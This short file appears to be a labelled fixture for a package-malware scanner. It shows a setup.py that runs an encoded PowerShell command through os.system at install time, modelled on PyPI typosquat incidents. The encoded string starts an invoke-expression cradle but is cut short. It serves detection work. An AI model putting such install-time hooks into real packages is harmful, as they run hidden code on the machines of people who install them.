# technique: module-level os.system in setup.py
# class: install-time
# source: PyPI incident reports of typosquats running shell commands at install (GuardDog "code-execution")
# declares:
import os

from setuptools import setup

os.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")
setup(name="example", version="1.0.0")
